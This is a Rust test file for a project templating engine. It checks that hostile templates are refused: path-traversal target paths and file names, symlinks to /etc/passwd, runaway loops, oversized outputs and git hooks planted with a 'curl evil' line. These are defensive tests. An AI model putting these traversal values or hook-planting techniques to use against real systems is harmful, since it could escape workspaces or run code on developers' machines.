//! Hostile templates through the real runner, over real directories: every way out of the
//! workspace (targetPath, skeleton urls, rendered names, absolute paths, symlinks), endless loops,
//! huge outputs and malformed expressions are refused with a message naming what and where.

#[path = "support/fixture.rs"]
mod fixture;

use fixture::{Fixture, all_files, fetch_step, refused};
use serde_json::json;
use templates::workspace::Limits;

#[tokio::test]
async fn target_path_cannot_leave_the_workspace() {
    let fx = Fixture::new();
    fx.file("skeleton/a.txt", b"a");
    for (target, why) in [
        ("../../escape", "`..` leads out of it"),
        ("/tmp/escape", "it is an absolute path"),
    ] {
        let steps = fetch_step(&format!("        url: ./skeleton\n        targetPath: {target}\n"));
        let err = refused(&fx, &steps, json!({}), Limits::default()).await;
        assert!(
            err.contains("step `fetch` (fetch:template): input `targetPath`"),
            "{err}"
        );
        assert!(err.contains(why), "{err}");
    }
    assert!(!fx.dir.path().parent().unwrap().join("escape").exists());
}

#[tokio::test]
async fn rendered_file_names_cannot_leave_the_workspace() {
    let fx = Fixture::new();
    fx.file("skeleton/${{ values.name }}.txt", b"owned");
    let steps = fetch_step("        url: ./skeleton\n        values:\n          name: ${{ parameters.name }}\n");
    let err = refused(&fx, &steps, json!({"name": "../../x"}), Limits::default()).await;
    assert!(
        err.contains("skeleton entry `${{ values.name }}.txt` would be written to `../../x.txt`"),
        "{err}"
    );
    assert!(err.contains("`..` leads out of it"), "{err}");
    // A name rendering to an absolute path is skipped, as Backstage skips it.
    let (result, log) = fx.run(&steps, json!({"name": "/etc/cairn"}), Limits::default()).await;
    result.unwrap();
    assert!(
        log.iter().any(|l| l.contains("Skipping ${{ values.name }}.txt")),
        "{log:?}"
    );
    let before: Vec<String> = all_files(fx.dir.path());
    assert_eq!(
        before,
        [
            fx.template_dir()
                .join("skeleton/${{ values.name }}.txt")
                .display()
                .to_string(),
            fx.template_dir().join("template.yaml").display().to_string()
        ]
    );
}

#[tokio::test]
async fn skeleton_urls_cannot_leave_the_template() {
    let fx = Fixture::new();
    for (url, why) in [
        ("../../../etc", "`..` leads out of it"),
        ("/etc", "it is an absolute path"),
    ] {
        let err = refused(
            &fx,
            &fetch_step(&format!("        url: {url}\n")),
            json!({}),
            Limits::default(),
        )
        .await;
        assert!(
            err.contains(&format!("input `url`: `{url}` leaves the template's source: {why}")),
            "{err}"
        );
    }
}

#[tokio::test]
async fn symlinks_in_skeletons_are_refused() {
    let fx = Fixture::new();
    fx.file("skeleton/ok.txt", b"ok");
    std::os::unix::fs::symlink("/etc/passwd", fx.template_dir().join("skeleton/passwd")).unwrap();
    let err = refused(
        &fx,
        &fetch_step("        url: ./skeleton\n"),
        json!({}),
        Limits::default(),
    )
    .await;
    assert!(
        err.contains("the skeleton cannot be read: `passwd`: it is a symbolic link, which is never followed"),
        "{err}"
    );
    assert!(!fx.workspace_dir().join("passwd").exists());
    // The skeleton directory itself being a link is refused too.
    std::os::unix::fs::symlink("/etc", fx.template_dir().join("etc-link")).unwrap();
    let err = refused(
        &fx,
        &fetch_step("        url: ./etc-link\n"),
        json!({}),
        Limits::default(),
    )
    .await;
    assert!(err.contains("it goes through a symbolic link"), "{err}");
}

#[tokio::test]
async fn huge_outputs_are_stopped() {
    let fx = Fixture::new();
    fx.file(
        "skeleton/big.txt",
        b"{% for i in range(10000) %}{% for j in range(10000) %}0123456789{% endfor %}{% endfor %}",
    );
    let limits = Limits {
        max_file_bytes: 1024 * 1024,
        ..Limits::default()
    };
    let err = refused(&fx, &fetch_step("        url: ./skeleton\n"), json!({}), limits).await;
    assert!(
        err.contains("skeleton file `big.txt`: the rendered text is larger than the limit of 1048576 bytes"),
        "{err}"
    );
    // Many files each within the limit, together over the workspace's.
    let fx = Fixture::new();
    for i in 0..5 {
        fx.file(&format!("skeleton/f{i}.txt"), &[b'x'; 1000]);
    }
    let limits = Limits {
        max_total_bytes: 3500,
        ..Limits::default()
    };
    let err = refused(&fx, &fetch_step("        url: ./skeleton\n"), json!({}), limits).await;
    assert!(
        err.contains("skeleton file `f3.txt`: the workspace would hold more than its limit of 3500 bytes"),
        "{err}"
    );
}

#[tokio::test]
async fn endless_loops_are_stopped() {
    let fx = Fixture::new();
    fx.file(
        "skeleton/loop.txt",
        b"line one\n{% for i in range(10000) %}{% for j in range(10000) %}{% endfor %}{% endfor %}",
    );
    let started = std::time::Instant::now();
    let err = refused(
        &fx,
        &fetch_step("        url: ./skeleton\n"),
        json!({}),
        Limits::default(),
    )
    .await;
    assert!(
        err.contains("skeleton file `loop.txt`: line 2: the template needs more than 5000000 evaluation steps"),
        "{err}"
    );
    assert!(started.elapsed().as_secs() < 30, "took {:?}", started.elapsed());
    let fx = Fixture::new();
    fx.file(
        "skeleton/macro.txt",
        b"{% macro f(n) %}${{ f(n + 1) }}{% endmacro %}${{ f(0) }}",
    );
    let err = refused(
        &fx,
        &fetch_step("        url: ./skeleton\n"),
        json!({}),
        Limits::default(),
    )
    .await;
    assert!(err.contains("skeleton file `macro.txt`: line 1: "), "{err}");
    assert!(err.contains("recursion"), "{err}");
}

#[tokio::test]
async fn malformed_expressions_name_the_file_and_line() {
    let fx = Fixture::new();
    fx.file("skeleton/src/app.py", b"import os\n\nname = '${{ values.name | }}'\n");
    let err = refused(
        &fx,
        &fetch_step("        url: ./skeleton\n"),
        json!({}),
        Limits::default(),
    )
    .await;
    assert!(
        err.contains("skeleton file `src/app.py`: line 3: syntax error"),
        "{err}"
    );
    let fx = Fixture::new();
    fx.file("skeleton/${{ values.name ) }}.txt", b"x");
    let err = refused(
        &fx,
        &fetch_step("        url: ./skeleton\n"),
        json!({}),
        Limits::default(),
    )
    .await;
    assert!(
        err.contains("the name of skeleton entry `${{ values.name ) }}.txt`: line 1: syntax error"),
        "{err}"
    );
    // In a step's input: the field is named.
    let steps = "    - id: log\n      action: debug:log\n      input:\n        message: ${{ parameters.name | }}\n";
    let err = refused(&fx, steps, json!({}), Limits::default()).await;
    assert!(
        err.contains("spec.steps.0.input: message: line 1: syntax error"),
        "{err}"
    );
}

#[tokio::test]
async fn cookiecutter_templates_are_refused_clearly() {
    let fx = Fixture::new();
    fx.file("skeleton/a.txt", b"{{ cookiecutter.name }}");
    let steps = fetch_step("        url: ./skeleton\n        cookiecutterCompat: true\n");
    let err = refused(&fx, &steps, json!({}), Limits::default()).await;
    assert!(
        err.contains("cookiecutterCompat: cookiecutter (Jinja2) skeletons are not supported by Cairn"),
        "{err}"
    );
}

#[tokio::test]
async fn git_metadata_cannot_be_planted() {
    let fx = Fixture::new();
    fx.file("skeleton/.git/hooks/pre-commit", b"#!/bin/sh\ncurl evil")
        .file(
            "skeleton/${{ values.dir }}/hooks/post-checkout",
            b"#!/bin/sh\ncurl evil",
        )
        .file("skeleton/README.md", b"ok");
    let (result, _) = fx
        .run(
            &fetch_step("        url: ./skeleton\n        values:\n          dir: docs\n"),
            json!({}),
            Limits::default(),
        )
        .await;
    result.unwrap();
    assert!(
        !fx.workspace_dir().join(".git").exists(),
        "a skeleton's own .git is not copied"
    );
    assert!(fx.workspace_dir().join("docs/hooks/post-checkout").exists());
    let steps =
        fetch_step("        url: ./skeleton\n        targetPath: again\n        values:\n          dir: .git\n");
    let err = refused(&fx, &steps, json!({}), Limits::default()).await;
    assert!(
        err.contains("skeleton entry `${{ values.dir }}` would be written to `again/.git`"),
        "{err}"
    );
    assert!(
        err.contains("inside a `.git` directory, which templates may not write"),
        "{err}"
    );
    let steps = "    - id: mv\n      action: fs:rename\n      input: {files: [{from: README.md, to: .git/config}]}\n";
    let err = refused(&fx, steps, json!({}), Limits::default()).await;
    assert!(err.contains("`.git/config` is inside a `.git` directory"), "{err}");
}
